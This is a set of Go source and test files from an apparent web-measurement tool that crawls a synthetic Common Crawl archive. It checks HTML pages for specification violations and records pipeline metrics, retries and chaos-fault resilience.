// DomainResult.PagesFailed keeps the true count.
const maxPageFailures = 8

// pagePanicError is a recovered checker panic, carrying the stack.
type pagePanicError struct {
	value any
	stack []byte
}

func (e *pagePanicError) Error() string {
	return fmt.Sprintf("checker panic: %v\n%s", e.value, e.stack)
}

// checkPage runs the checker with panic recovery: a panicking rule on
// adversarial HTML must cost one page, not the whole multi-day run.
func (p *Pipeline) checkPage(body []byte) (rep *core.Report, err error) {
	defer func() {
		if r := recover(); r != nil {
			buf := make([]byte, 8<<10)
			buf = buf[:runtime.Stack(buf, false)]
			rep, err = nil, &pagePanicError{value: r, stack: buf}
		}
	}()
	return p.checker.Check(body)
}

func addSignals(m map[string]int, s core.Signals) {
	if s.NewlineInURL {
		m[store.SignalNewlineURL]++
	}
	if s.NewlineAndLtInURL {
		m[store.SignalNewlineLtURL]++
	}
	if s.ScriptInAttribute {
		m[store.SignalScriptInAttr]++
	}
	if s.NonceScriptAffected {
		m[store.SignalNonceAffected]++
	}
	if s.UsesMath {
		m[store.SignalUsesMath]++
	}
	if s.UsesSVG {
		m[store.SignalUsesSVG]++
	}
}
