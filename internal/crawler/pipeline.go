// Package crawler implements the four-stage measurement pipeline of the
// paper's Figure 6: collect capture metadata from the (simulated) Common
// Crawl index, fetch the WARC records, run the violation checker, and
// store per-domain aggregates. Stages run on bounded worker pools; the
// paper reports ~1,000 pages/minute from one machine, and this pipeline
// comfortably exceeds that against the synthetic archive.
//
// Every stage is instrumented (metrics.go): latency histograms, byte and
// outcome counters, and in-flight gauges, exposed through
// Pipeline.Metrics() and any obs.Registry passed in Config.
package crawler

import (
	"context"
	"fmt"
	"runtime"
	"strings"
	"sync"
	"time"
	"unicode/utf8"

	"github.com/hvscan/hvscan/internal/cdx"
	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/obs"
	"github.com/hvscan/hvscan/internal/store"
)

// NoRetries disables retrying entirely when assigned to Config.Retries.
// The zero value of Retries means "use the default" (2), so a sentinel is
// needed to say "really zero retries" — any negative value works, but use
// the constant to make call sites self-explanatory.
const NoRetries = -1

// Config tunes the pipeline.
type Config struct {
	// Workers is the number of concurrent domain workers (default: NumCPU).
	Workers int
	// PagesPerDomain caps captures per domain (the paper uses 100).
	PagesPerDomain int
	// Retries is how often a failed index query or record fetch is retried
	// before the domain errors out. Zero means the default of 2 (long
	// network crawls must survive transient faults); assign NoRetries to
	// disable retrying.
	Retries int
	// RetryDelay separates attempts (default 50ms; tests use 0).
	RetryDelay time.Duration
	// MaxDocumentBytes skips captures larger than this before checking
	// (default 2 MiB — Common Crawl itself truncates records at 1 MiB, so
	// anything bigger is either truncated junk or a decompression bomb).
	MaxDocumentBytes int
	// Progress, if set, receives one call per finished domain.
	Progress func(crawl, domain string, done, total int)
	// Registry receives the pipeline's metric series. Nil means a private
	// registry, still reachable via Pipeline.Metrics().Registry().
	Registry *obs.Registry
}

// Pipeline wires an archive to a checker and a store.
type Pipeline struct {
	archive commoncrawl.Archive
	checker *core.Checker
	store   *store.Store
	cfg     Config
	metrics *Metrics
}

// New assembles a pipeline.
func New(a commoncrawl.Archive, c *core.Checker, st *store.Store, cfg Config) *Pipeline {
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.NumCPU()
	}
	if cfg.PagesPerDomain <= 0 {
		cfg.PagesPerDomain = 100
	}
	if cfg.Retries < 0 {
		cfg.Retries = 0 // NoRetries (or any negative): disabled
	} else if cfg.Retries == 0 {
		cfg.Retries = 2 // unset: default
	}
	if cfg.RetryDelay == 0 {
		cfg.RetryDelay = 50 * time.Millisecond
	}
	if cfg.MaxDocumentBytes <= 0 {
		cfg.MaxDocumentBytes = 2 << 20
	}
	if cfg.Registry == nil {
		cfg.Registry = obs.NewRegistry()
	}
	return &Pipeline{
		archive: a, checker: c, store: st, cfg: cfg,
		metrics: NewMetrics(cfg.Registry),
	}
}

// Store returns the pipeline's result store.
func (p *Pipeline) Store() *store.Store { return p.store }

// Metrics returns the pipeline's instrumentation, for exposition servers,
// end-of-run summaries, and test assertions.
func (p *Pipeline) Metrics() *Metrics { return p.metrics }

// SnapshotStats summarizes one crawl run (one Table 2 row).
type SnapshotStats = store.CrawlStats

// RunSnapshot measures all domains against one crawl. The context cancels
// in-flight work between domains.
func (p *Pipeline) RunSnapshot(ctx context.Context, crawl string, domains []string) (SnapshotStats, error) {
	stats := SnapshotStats{Crawl: crawl, Domains: len(domains)}
	type job struct {
		domain string
		rank   int
	}
	jobs := make(chan job)
	results := make(chan *store.DomainResult)
	var wg sync.WaitGroup
	var firstErr error
	var errOnce sync.Once
	m := p.metrics

	for w := 0; w < p.cfg.Workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := range jobs {
				m.DomainsStarted.Inc()
				m.InFlight.Inc()
				dr, err := p.measureDomain(crawl, j.domain, j.rank)
				m.InFlight.Dec()
				if err != nil {
					m.DomainErrors.Inc()
					errOnce.Do(func() { firstErr = err })
					continue
				}
				m.DomainsDone.Inc()
				results <- dr
			}
		}()
	}
	go func() {
		defer close(jobs)
		for i, d := range domains {
			select {
			case jobs <- job{domain: d, rank: i + 1}:
			case <-ctx.Done():
				return
			}
		}
	}()
	go func() {
		wg.Wait()
		close(results)
	}()

	done := 0
	for dr := range results {
		done++
		if dr.PagesFound > 0 {
			stats.Found++
		}
		if dr.Analyzed() {
			stats.Analyzed++
			t0 := time.Now()
			p.store.Put(dr)
			m.observeStage("store", t0)
		}
		stats.PagesFound += dr.PagesFound
		stats.PagesAnalyzed += dr.PagesAnalyzed
		if p.cfg.Progress != nil {
			p.cfg.Progress(crawl, dr.Domain, done, len(domains))
		}
	}
	if firstErr != nil {
		return stats, firstErr
	}
	return stats, ctx.Err()
}

// Summary snapshots the pipeline metrics over the given wall time; a
// convenience shim for p.Metrics().Summary(elapsed).
func (p *Pipeline) Summary(elapsed time.Duration) RunSummary {
	return p.metrics.Summary(elapsed)
}

// measureDomain runs collect → fetch → check for one domain and returns
// the aggregate.
func (p *Pipeline) measureDomain(crawl, domain string, rank int) (*store.DomainResult, error) {
	m := p.metrics
	dr := &store.DomainResult{
		Crawl: crawl, Domain: domain, Rank: rank,
		Violations: make(map[string]int),
		Signals:    make(map[string]int),
	}
	t0 := time.Now()
	recs, err := withRetries(p.cfg.Retries, p.cfg.RetryDelay, m.Retries, func() ([]*cdx.Record, error) {
		return p.archive.Query(crawl, domain, p.cfg.PagesPerDomain)
	})
	m.observeStage("query", t0)
	if err != nil {
		m.QueryErrors.Inc()
		return nil, fmt.Errorf("crawler: query %s/%s: %w", crawl, domain, err)
	}
	dr.PagesFound = len(recs)
	m.PagesFound.Add(uint64(len(recs)))
	for _, rec := range recs {
		// The index carries MIME and status; skip obvious non-pages before
		// fetching, like the paper's metadata-driven collection does.
		if rec.Status != 200 || !strings.HasPrefix(rec.MIME, "text/html") {
			m.skipped["index-filter"].Inc()
			continue
		}
		t0 = time.Now()
		cap, err := withRetries(p.cfg.Retries, p.cfg.RetryDelay, m.Retries, func() (*commoncrawl.Capture, error) {
			return commoncrawl.FetchCapture(p.archive, rec)
		})
		m.observeStage("fetch", t0)
		if err != nil {
			m.FetchErrors.Inc()
			return nil, fmt.Errorf("crawler: fetch %s: %w", rec.URL, err)
		}
		m.PagesFetched.Inc()
		m.BytesFetched.Add(uint64(rec.Length))
		if cap.Status != 200 {
			m.skipped["status"].Inc()
			continue
		}
		if !strings.HasPrefix(cap.MIME, "text/html") {
			m.skipped["mime"].Inc()
			continue
		}
		if len(cap.Body) > p.cfg.MaxDocumentBytes {
			m.skipped["oversize"].Inc()
			continue
		}
		// Encoding filter (paper §4.1): only UTF-8-decodable documents.
		if !utf8.Valid(cap.Body) {
			m.skipped["non-utf8"].Inc()
			continue
		}
		m.DocBytes.Observe(float64(len(cap.Body)))
		t0 = time.Now()
		rep, err := p.checker.Check(cap.Body)
		m.observeStage("check", t0)
		if err != nil {
			m.skipped["non-utf8"].Inc()
			continue // non-UTF-8 slipped through; same filter
		}
		dr.PagesAnalyzed++
		m.PagesAnalyzed.Inc()
		for id, n := range rep.RuleHits {
			if n > 0 {
				dr.Violations[id]++
			}
		}
		addSignals(dr.Signals, rep.Signals)
	}
	return dr, nil
}

// withRetries runs f up to retries+1 times, sleeping delay between
// attempts and counting each re-attempt on retried, and returns the first
// success or the last error.
func withRetries[T any](retries int, delay time.Duration, retried *obs.Counter, f func() (T, error)) (T, error) {
	var out T
	var err error
	for attempt := 0; attempt <= retries; attempt++ {
		if attempt > 0 {
			retried.Inc()
		}
		out, err = f()
		if err == nil {
			return out, nil
		}
		if attempt < retries && delay > 0 {
			time.Sleep(delay)
		}
	}
	return out, err
}

func addSignals(m map[string]int, s core.Signals) {
	if s.NewlineInURL {
		m[store.SignalNewlineURL]++
	}
	if s.NewlineAndLtInURL {
		m[store.SignalNewlineLtURL]++
	}
	if s.ScriptInAttribute {
		m[store.SignalScriptInAttr]++
	}
	if s.NonceScriptAffected {
		m[store.SignalNonceAffected]++
	}
	if s.UsesMath {
		m[store.SignalUsesMath]++
	}
	if s.UsesSVG {
		m[store.SignalUsesSVG]++
	}
}
