package crawler

import (
	"context"
	"math"
	"net/http/httptest"
	"testing"

	"github.com/hvscan/hvscan/internal/analysis"
	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/corpus"
	"github.com/hvscan/hvscan/internal/store"
)

func testArchive(domains, pages int) *commoncrawl.SyntheticArchive {
	return commoncrawl.NewSynthetic(corpus.New(corpus.Config{
		Seed: 99, Domains: domains, MaxPages: pages,
	}))
}

func TestPipelineEndToEnd(t *testing.T) {
	arch := testArchive(220, 4)
	st := store.New()
	p := New(arch, core.NewChecker(), st, Config{Workers: 4, PagesPerDomain: 4})
	domains := arch.Generator().Universe()

	var statsAll []SnapshotStats
	for _, crawl := range arch.Crawls() {
		stats, err := p.RunSnapshot(context.Background(), crawl, domains)
		if err != nil {
			t.Fatalf("RunSnapshot(%s): %v", crawl, err)
		}
		if stats.Analyzed == 0 {
			t.Fatalf("%s: nothing analyzed", crawl)
		}
		if stats.Analyzed > stats.Found || stats.Found > stats.Domains {
			t.Fatalf("%s: inconsistent stats %+v", crawl, stats)
		}
		statsAll = append(statsAll, stats)
	}

	an := analysis.New(st)
	series := an.YearlyViolating()
	if len(series) != 8 {
		t.Fatalf("want 8 yearly points, got %d", len(series))
	}
	// The headline shape: roughly 3/4 of domains violating, decreasing.
	first, last := series[0].Pct, series[7].Pct
	if first < 60 || first > 85 {
		t.Errorf("2015 violating rate %.1f%%, want ~74%%", first)
	}
	if last >= first {
		t.Errorf("trend not decreasing: %.1f -> %.1f", first, last)
	}

	// Pipeline-measured rates must agree with the generator's ground truth
	// (detection ≈ planting, modulo the <4-page cap vs domain-level truth).
	g := arch.Generator()
	snap := corpus.Snapshots[0]
	truth := 0
	analyzed := 0
	for _, d := range domains {
		if g.PageCount(d, snap) == 0 || !g.Succeeds(d, snap) {
			continue
		}
		analyzed++
		if len(g.ActiveRules(d, snap)) > 0 {
			truth++
		}
	}
	truthPct := 100 * float64(truth) / float64(analyzed)
	if math.Abs(truthPct-first) > 6 {
		t.Errorf("measured %.1f%% vs ground truth %.1f%%", first, truthPct)
	}

	// Table 2 reconstruction.
	rows := analysis.Table2(statsAll)
	if len(rows) != 8 {
		t.Fatalf("table2 rows = %d", len(rows))
	}
	for _, r := range rows {
		if r.SuccessPct < 95 || r.SuccessPct > 100 {
			t.Errorf("%s: success %.1f%%, want 97-99%%", r.Crawl, r.SuccessPct)
		}
	}
}

func TestPipelineOverHTTP(t *testing.T) {
	arch := testArchive(40, 3)
	srv := httptest.NewServer(commoncrawl.NewServer(arch))
	defer srv.Close()
	client := commoncrawl.NewClient(srv.URL)

	crawls := client.Crawls()
	if len(crawls) != 8 {
		t.Fatalf("crawls over http = %v", crawls)
	}

	st := store.New()
	p := New(client, core.NewChecker(), st, Config{Workers: 8, PagesPerDomain: 3})
	stats, err := p.RunSnapshot(context.Background(), crawls[0], arch.Generator().Universe())
	if err != nil {
		t.Fatalf("RunSnapshot over HTTP: %v", err)
	}
	if stats.Analyzed == 0 {
		t.Fatal("nothing analyzed over HTTP")
	}

	// The HTTP path and the in-process path must agree byte-for-byte.
	direct := store.New()
	pd := New(arch, core.NewChecker(), direct, Config{Workers: 8, PagesPerDomain: 3})
	if _, err := pd.RunSnapshot(context.Background(), crawls[0], arch.Generator().Universe()); err != nil {
		t.Fatal(err)
	}
	for _, d := range direct.Domains(crawls[0]) {
		h := st.Get(crawls[0], d.Domain)
		if h == nil {
			t.Fatalf("%s missing from HTTP-path store", d.Domain)
		}
		if h.PagesAnalyzed != d.PagesAnalyzed || len(h.Violations) != len(d.Violations) {
			t.Fatalf("%s: HTTP path differs: %+v vs %+v", d.Domain, h, d)
		}
		for rule, n := range d.Violations {
			if h.Violations[rule] != n {
				t.Fatalf("%s %s: %d vs %d", d.Domain, rule, h.Violations[rule], n)
			}
		}
	}
}

func TestStoreRoundTrip(t *testing.T) {
	arch := testArchive(30, 2)
	st := store.New()
	p := New(arch, core.NewChecker(), st, Config{Workers: 2, PagesPerDomain: 2})
	if _, err := p.RunSnapshot(context.Background(), arch.Crawls()[0], arch.Generator().Universe()); err != nil {
		t.Fatal(err)
	}
	path := t.TempDir() + "/results.jsonl"
	if err := st.Save(path); err != nil {
		t.Fatal(err)
	}
	st2, err := store.Load(path)
	if err != nil {
		t.Fatal(err)
	}
	if st2.Len() != st.Len() {
		t.Fatalf("round trip lost results: %d vs %d", st2.Len(), st.Len())
	}
	for _, d := range st.Domains(arch.Crawls()[0]) {
		d2 := st2.Get(d.Crawl, d.Domain)
		if d2 == nil || d2.PagesAnalyzed != d.PagesAnalyzed {
			t.Fatalf("mismatch for %s", d.Domain)
		}
	}
}

func TestPipelineCancellation(t *testing.T) {
	arch := testArchive(60, 2)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	p := New(arch, core.NewChecker(), store.New(), Config{Workers: 2, PagesPerDomain: 2})
	_, err := p.RunSnapshot(ctx, arch.Crawls()[0], arch.Generator().Universe())
	if err == nil {
		t.Fatal("cancelled run reported no error")
	}
}
