package crawler

import (
	"context"
	"testing"

	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/store"
)

// TestPipelineFixMode runs one synthetic snapshot with Fix enabled and
// checks the repairability accounting: every analyzed page gets exactly
// one outcome, violating pages with fixes get verified Applied entries,
// the per-outcome metrics match the stats, and a journal replay
// reconstructs the same fix aggregate without re-crawling.
func TestPipelineFixMode(t *testing.T) {
	arch := testArchive(120, 4)
	st := store.New()
	dir := t.TempDir()
	jr, _, err := store.OpenJournal(dir + "/fix.journal")
	if err != nil {
		t.Fatal(err)
	}
	p := New(arch, core.NewChecker(), st, Config{
		Workers: 4, PagesPerDomain: 4, Fix: true, Journal: jr,
	})
	domains := arch.Generator().Universe()
	crawl := arch.Crawls()[0]
	stats, err := p.RunSnapshot(context.Background(), crawl, domains)
	if err != nil {
		t.Fatalf("RunSnapshot: %v", err)
	}
	if stats.PagesAnalyzed == 0 {
		t.Fatal("nothing analyzed")
	}

	outcomes := 0
	for _, n := range stats.FixOutcomes {
		outcomes += n
	}
	if outcomes != stats.PagesAnalyzed {
		t.Fatalf("fix outcomes cover %d pages, %d analyzed (%v)",
			outcomes, stats.PagesAnalyzed, stats.FixOutcomes)
	}
	if stats.FixOutcomes["fixed"] == 0 {
		t.Fatalf("synthetic corpus produced no verifiably fixed pages: %v", stats.FixOutcomes)
	}
	if len(stats.FixesApplied) == 0 {
		t.Fatal("no fixes recorded despite fixed pages")
	}
	rate, violating, ok := stats.Repairability()
	if !ok || violating == 0 {
		t.Fatalf("Repairability() = %v, %d, %v", rate, violating, ok)
	}
	if rate <= 0 || rate > 1 {
		t.Fatalf("repairability rate %v out of range", rate)
	}

	// The per-outcome counters mirror the stats aggregate.
	for outcome, n := range stats.FixOutcomes {
		if got := p.Metrics().FixPages[outcome].Value(); got != uint64(n) {
			t.Errorf("metric fix pages %s = %d, stats say %d", outcome, got, n)
		}
	}
	if c := p.Metrics().Stage("fix").Count(); c != uint64(stats.PagesAnalyzed) {
		t.Errorf("fix stage observed %d pages, %d analyzed", c, stats.PagesAnalyzed)
	}
	if err := jr.Close(); err != nil {
		t.Fatal(err)
	}

	// Replay: a resumed run must rebuild the same fix aggregate from the
	// journal alone.
	jr2, _, err := store.OpenJournal(dir + "/fix.journal")
	if err != nil {
		t.Fatal(err)
	}
	defer jr2.Close()
	p2 := New(arch, core.NewChecker(), store.New(), Config{
		Workers: 4, PagesPerDomain: 4, Fix: true, Journal: jr2,
	})
	stats2, err := p2.RunSnapshot(context.Background(), crawl, domains)
	if err != nil {
		t.Fatalf("resumed RunSnapshot: %v", err)
	}
	if stats2.DomainsResumed == 0 {
		t.Fatal("nothing replayed from journal")
	}
	for outcome, n := range stats.FixOutcomes {
		if stats2.FixOutcomes[outcome] != n {
			t.Errorf("replayed outcome %s = %d, want %d", outcome, stats2.FixOutcomes[outcome], n)
		}
	}
	for rule, n := range stats.FixesApplied {
		if stats2.FixesApplied[rule] != n {
			t.Errorf("replayed fixes for %s = %d, want %d", rule, stats2.FixesApplied[rule], n)
		}
	}
}
