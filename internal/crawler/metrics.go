package crawler

import (
	"fmt"
	"strings"
	"time"

	"github.com/hvscan/hvscan/internal/autofix"
	"github.com/hvscan/hvscan/internal/obs"
	"github.com/hvscan/hvscan/internal/resilience"
)

// Stage names, in pipeline order (Figure 6): index query, WARC fetch,
// parse+check, repair (the -fix measurement mode; idle otherwise),
// store. Exported so tests and dashboards can iterate them.
var Stages = []string{"query", "fetch", "check", "fix", "store"}

// Metrics is the pipeline's instrumentation: one latency histogram per
// stage, byte counters, retry/error counters, and in-flight gauges, all
// registered on a shared obs.Registry so cmd-level servers can expose
// them next to the checker's and archive's own series.
type Metrics struct {
	reg *obs.Registry

	// stage latency histograms, keyed like Stages.
	stageSeconds map[string]*obs.Histogram

	// QueryErrors / FetchErrors count stage failures after retries were
	// exhausted; Retries counts every re-attempt of either stage.
	QueryErrors *obs.Counter
	FetchErrors *obs.Counter
	Retries     *obs.Counter

	// DomainsStarted/DomainsDone/DomainErrors track the outer work units;
	// InFlight is the number of domains currently being measured;
	// DomainsResumed counts pairs replayed from a resume journal instead
	// of re-crawled.
	DomainsStarted *obs.Counter
	DomainsDone    *obs.Counter
	DomainErrors   *obs.Counter
	DomainsResumed *obs.Counter
	InFlight       *obs.Gauge

	// CheckPanics counts checker panics recovered into per-page
	// failures (adversarial HTML must not crash the run).
	CheckPanics *obs.Counter

	// Res is the resilience layer's series on the same registry:
	// per-class error counters, retry/backoff counters, and the circuit
	// breaker state gauge and trip/shed counters.
	Res *resilience.Metrics

	// PagesFound counts index records returned, PagesFetched successful
	// WARC fetches, PagesAnalyzed pages that passed every filter and were
	// checked.
	PagesFound    *obs.Counter
	PagesFetched  *obs.Counter
	PagesAnalyzed *obs.Counter

	// BytesFetched is compressed WARC bytes read from the archive;
	// DocBytes is the distribution of decoded HTML document sizes.
	BytesFetched *obs.Counter
	DocBytes     *obs.Histogram

	// FixPages counts -fix mode pages by repair outcome (clean, fixed,
	// partial, unfixable); all zero when the mode is off.
	FixPages map[string]*obs.Counter

	// skipped counts filtered pages by reason (see skipReasons).
	skipped map[string]*obs.Counter
}

// skipReasons are the filter outcomes of measureDomain, mirroring the
// paper's §4.1 collection filters, plus "check-panic" for pages whose
// check stage panicked and was recovered.
var skipReasons = []string{"index-filter", "status", "mime", "oversize", "non-utf8", "check-panic"}

// NewMetrics registers the pipeline series on reg (which must be non-nil)
// and returns the typed handle. Calling it twice with the same registry
// returns handles sharing the same underlying series.
func NewMetrics(reg *obs.Registry) *Metrics {
	m := &Metrics{
		reg:          reg,
		stageSeconds: reg.HistogramVec("crawler_stage_seconds", "stage", obs.DurationBuckets, Stages...),
		skipped:      reg.CounterVec("crawler_pages_skipped_total", "reason", skipReasons...),
		FixPages:     reg.CounterVec("crawler_fix_pages_total", "outcome", autofix.Outcomes()...),

		QueryErrors: reg.Counter(`crawler_stage_errors_total{stage="query"}`),
		FetchErrors: reg.Counter(`crawler_stage_errors_total{stage="fetch"}`),
		Retries:     reg.Counter("crawler_retries_total"),

		DomainsStarted: reg.Counter("crawler_domains_started_total"),
		DomainsDone:    reg.Counter("crawler_domains_done_total"),
		DomainErrors:   reg.Counter("crawler_domain_errors_total"),
		DomainsResumed: reg.Counter("crawler_domains_resumed_total"),
		InFlight:       reg.Gauge("crawler_domains_in_flight"),

		CheckPanics: reg.Counter("crawler_check_panics_total"),
		Res:         resilience.NewMetrics(reg),

		PagesFound:    reg.Counter("crawler_pages_found_total"),
		PagesFetched:  reg.Counter("crawler_pages_fetched_total"),
		PagesAnalyzed: reg.Counter("crawler_pages_analyzed_total"),

		BytesFetched: reg.Counter("crawler_fetch_bytes_total"),
		DocBytes:     reg.Histogram("crawler_doc_bytes", obs.SizeBuckets),
	}
	return m
}

// Registry returns the registry the metrics are registered on.
func (m *Metrics) Registry() *obs.Registry { return m.reg }

// Stage returns the latency histogram of the named stage (see Stages).
func (m *Metrics) Stage(name string) *obs.Histogram { return m.stageSeconds[name] }

// Skipped returns the skip counter for reason, or nil for unknown reasons.
func (m *Metrics) Skipped(reason string) *obs.Counter { return m.skipped[reason] }

// PagesSkipped sums the skip counters across all reasons.
func (m *Metrics) PagesSkipped() uint64 {
	var n uint64
	for _, c := range m.skipped {
		n += c.Value()
	}
	return n
}

// observeStage records one stage latency.
func (m *Metrics) observeStage(name string, t0 time.Time) {
	m.stageSeconds[name].ObserveSince(t0)
}

// StageSummary is one row of the end-of-run report.
type StageSummary struct {
	Stage  string  `json:"stage"`
	Count  uint64  `json:"count"`
	Errors uint64  `json:"errors"`
	P50ms  float64 `json:"p50_ms"`
	P95ms  float64 `json:"p95_ms"`
	P99ms  float64 `json:"p99_ms"`
}

// RunSummary condenses a whole run — what an operator wants to know after
// a multi-hour crawl, and what stats.json preserves for the perf
// trajectory across PRs.
type RunSummary struct {
	ElapsedSeconds float64        `json:"elapsed_seconds"`
	PagesAnalyzed  uint64         `json:"pages_analyzed"`
	PagesPerSec    float64        `json:"pages_per_sec"`
	PagesFound     uint64         `json:"pages_found"`
	PagesSkipped   uint64         `json:"pages_skipped"`
	BytesFetched   uint64         `json:"bytes_fetched"`
	Retries        uint64         `json:"retries"`
	DomainErrors   uint64         `json:"domain_errors"`
	DomainsResumed uint64         `json:"domains_resumed,omitempty"`
	CheckPanics    uint64         `json:"check_panics,omitempty"`
	BreakerTrips   uint64         `json:"breaker_trips,omitempty"`
	BreakerShed    uint64         `json:"breaker_shed,omitempty"`
	ErrorRate      float64        `json:"error_rate"` // failed domains / started domains
	Stages         []StageSummary `json:"stages"`
}

// Summary snapshots the metrics into a RunSummary over the given wall
// time.
func (m *Metrics) Summary(elapsed time.Duration) RunSummary {
	s := RunSummary{
		ElapsedSeconds: elapsed.Seconds(),
		PagesAnalyzed:  m.PagesAnalyzed.Value(),
		PagesFound:     m.PagesFound.Value(),
		PagesSkipped:   m.PagesSkipped(),
		BytesFetched:   m.BytesFetched.Value(),
		Retries:        m.Retries.Value(),
		DomainErrors:   m.DomainErrors.Value(),
		DomainsResumed: m.DomainsResumed.Value(),
		CheckPanics:    m.CheckPanics.Value(),
		BreakerTrips:   m.Res.BreakerTrips.Value(),
		BreakerShed:    m.Res.BreakerShed.Value(),
	}
	if elapsed > 0 {
		s.PagesPerSec = float64(s.PagesAnalyzed) / elapsed.Seconds()
	}
	if started := m.DomainsStarted.Value(); started > 0 {
		s.ErrorRate = float64(s.DomainErrors) / float64(started)
	}
	for _, name := range Stages {
		h := m.stageSeconds[name]
		row := StageSummary{
			Stage: name,
			Count: h.Count(),
			P50ms: h.Quantile(0.50) * 1e3,
			P95ms: h.Quantile(0.95) * 1e3,
			P99ms: h.Quantile(0.99) * 1e3,
		}
		switch name {
		case "query":
			row.Errors = m.QueryErrors.Value()
		case "fetch":
			row.Errors = m.FetchErrors.Value()
		}
		s.Stages = append(s.Stages, row)
	}
	return s
}

// String renders the summary for log output.
func (s RunSummary) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "run summary: %d pages analyzed in %.1fs (%.1f pages/sec, %.1f pages/min)\n",
		s.PagesAnalyzed, s.ElapsedSeconds, s.PagesPerSec, s.PagesPerSec*60)
	fmt.Fprintf(&b, "  found %d, skipped %d, fetched %s, retries %d, domain errors %d (rate %.2f%%)\n",
		s.PagesFound, s.PagesSkipped, formatBytes(s.BytesFetched), s.Retries, s.DomainErrors,
		100*s.ErrorRate)
	if s.DomainsResumed+s.CheckPanics+s.BreakerTrips+s.BreakerShed > 0 {
		fmt.Fprintf(&b, "  resumed %d domains, recovered %d check panics, breaker trips %d (shed %d calls)\n",
			s.DomainsResumed, s.CheckPanics, s.BreakerTrips, s.BreakerShed)
	}
	fmt.Fprintf(&b, "  %-6s %10s %8s %10s %10s %10s\n", "stage", "count", "errors", "p50", "p95", "p99")
	for _, st := range s.Stages {
		fmt.Fprintf(&b, "  %-6s %10d %8d %9.2fms %9.2fms %9.2fms\n",
			st.Stage, st.Count, st.Errors, st.P50ms, st.P95ms, st.P99ms)
	}
	return strings.TrimRight(b.String(), "\n")
}

func formatBytes(n uint64) string {
	const unit = 1024
	if n < unit {
		return fmt.Sprintf("%d B", n)
	}
	div, exp := uint64(unit), 0
	for m := n / unit; m >= unit; m /= unit {
		div *= unit
		exp++
	}
	return fmt.Sprintf("%.1f %ciB", float64(n)/float64(div), "KMGTPE"[exp])
}
