package crawler

import (
	"context"
	"errors"
	"fmt"
	"path/filepath"
	"reflect"
	"sort"
	"testing"
	"time"

	"github.com/hvscan/hvscan/internal/commoncrawl"
	"github.com/hvscan/hvscan/internal/core"
	"github.com/hvscan/hvscan/internal/store"
)

// chaosProfile is the acceptance-criteria fault mix: ~10% transient
// faults plus a sprinkle of permanent record damage and latency. The
// fixed seed makes every CI run identical.
func chaosProfile(seed int64) commoncrawl.ChaosConfig {
	return commoncrawl.ChaosConfig{
		Seed:          seed,
		TransientRate: 0.10,
		TruncateRate:  0.02,
		GarbageRate:   0.02,
		LatencyRate:   0.02,
		Latency:       200 * time.Microsecond,
	}
}

// TestChaosRunCompletesWithinBudget is the headline acceptance test: a
// seeded chaos run over the full fault mix completes with zero crashes,
// every domain accounted for exactly once, and failures within the
// error budget.
func TestChaosRunCompletesWithinBudget(t *testing.T) {
	arch := testArchive(120, 3)
	chaos := commoncrawl.NewChaos(arch, chaosProfile(7))
	domains := arch.Generator().Universe()
	crawl := arch.Crawls()[0]

	seen := make(map[string]int)
	st := store.New()
	p := New(chaos, core.NewChecker(), st, Config{
		Workers: 8, PagesPerDomain: 3, Retries: 2, RetryDelay: NoDelay,
		MaxDomainFailures: 30,
		Progress: func(_, domain string, done, total int) {
			seen[domain]++ // results loop is single-goroutine: no lock needed
		},
	})
	stats, err := p.RunSnapshot(context.Background(), crawl, domains)
	if err != nil {
		t.Fatalf("chaos run must absorb the fault mix: %v", err)
	}
	cs := chaos.Stats()
	if cs.Transient == 0 || cs.Truncated+cs.Garbage+cs.Permanent == 0 {
		t.Fatalf("chaos injected nothing: %+v", cs)
	}
	t.Logf("chaos: %+v; stats: failed=%d byClass=%v analyzed=%d",
		cs, stats.DomainsFailed, stats.FailedByClass, stats.Analyzed)

	// Every domain finished exactly once — no losses, no double counts.
	if len(seen) != len(domains) {
		t.Fatalf("progress saw %d domains, want %d", len(seen), len(domains))
	}
	for d, n := range seen {
		if n != 1 {
			t.Fatalf("domain %s finished %d times", d, n)
		}
	}
	if stats.DomainsFailed > 30 {
		t.Fatalf("failures exceed budget: %d > 30", stats.DomainsFailed)
	}
	if stats.DomainsFailed != len(stats.Failed) {
		t.Fatalf("DomainsFailed=%d but ledger has %d", stats.DomainsFailed, len(stats.Failed))
	}
	// Failed and stored domains are disjoint; together with the
	// zero-page domains they cover the universe.
	failed := make(map[string]bool, len(stats.Failed))
	for _, f := range stats.Failed {
		failed[f.Domain] = true
	}
	if st.Len() != stats.Analyzed {
		t.Fatalf("store holds %d, stats claim %d analyzed", st.Len(), stats.Analyzed)
	}
	st.ForEach(func(dr *store.DomainResult) {
		if failed[dr.Domain] {
			t.Fatalf("domain %s is both failed and stored", dr.Domain)
		}
	})
	// Transient faults were absorbed by retries, not turned into
	// failures: with ~10%% transient rate and 2 retries, the only
	// failures should be the injected permanent/corruption ones.
	if got := p.Metrics().Retries.Value(); got == 0 {
		t.Fatal("no retries despite transient faults")
	}
}

// snapshotFingerprint reduces a finished run to the bits that must be
// identical between an uninterrupted run and a crash-plus-resume run.
type snapshotFingerprint struct {
	Analyzed      int
	Found         int
	PagesFound    int
	PagesAnalyzed int
	DomainsFailed int
	Failed        []store.FailedDomain // sorted by domain
	Stored        map[string]string    // domain -> violations digest
}

func fingerprint(stats SnapshotStats, st *store.Store) snapshotFingerprint {
	fp := snapshotFingerprint{
		Analyzed: stats.Analyzed, Found: stats.Found,
		PagesFound: stats.PagesFound, PagesAnalyzed: stats.PagesAnalyzed,
		DomainsFailed: stats.DomainsFailed,
		Failed:        append([]store.FailedDomain(nil), stats.Failed...),
		Stored:        make(map[string]string),
	}
	sort.Slice(fp.Failed, func(i, j int) bool { return fp.Failed[i].Domain < fp.Failed[j].Domain })
	st.ForEach(func(dr *store.DomainResult) {
		keys := make([]string, 0, len(dr.Violations))
		for k := range dr.Violations {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		digest := ""
		for _, k := range keys {
			digest += fmt.Sprintf("%s:%d;", k, dr.Violations[k])
		}
		fp.Stored[dr.Domain] = digest
